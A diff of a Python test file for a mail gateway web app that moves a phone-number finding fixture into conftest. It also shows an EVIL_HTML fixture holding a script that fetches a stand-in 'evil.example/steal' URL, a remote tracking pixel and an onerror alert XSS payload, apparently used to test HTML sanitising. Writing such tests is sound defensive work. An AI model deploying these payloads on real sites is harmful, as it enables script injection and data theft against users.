@@ -11,21 +11,9 @@ from starlette.testclient import TestClient
 from gateway.store import Envelope, NewCopy, Store, StoredFinding, ts
 from gateway.web import create_app, hash_password
 
-from .conftest import PARENT, STAFF, mail
+from .conftest import PARENT, PHONE, STAFF, mail
 
 PASSWORD = "a long enough password"
-PHONE = StoredFinding(
-    "personal-phone",
-    "personal_phone",
-    "quarantine",
-    "07700 900999",
-    "body",
-    "new",
-    False,
-    "mobile",
-    "ring me on 07700 900999 tonight",
-    "+447700900999",
-)
 EVIL_HTML = """<p>Hello <b>there</b></p>
 <script>fetch('http://evil.example/steal')</script>
 <img src="http://evil.example/pixel.png" onerror="alert(1)">
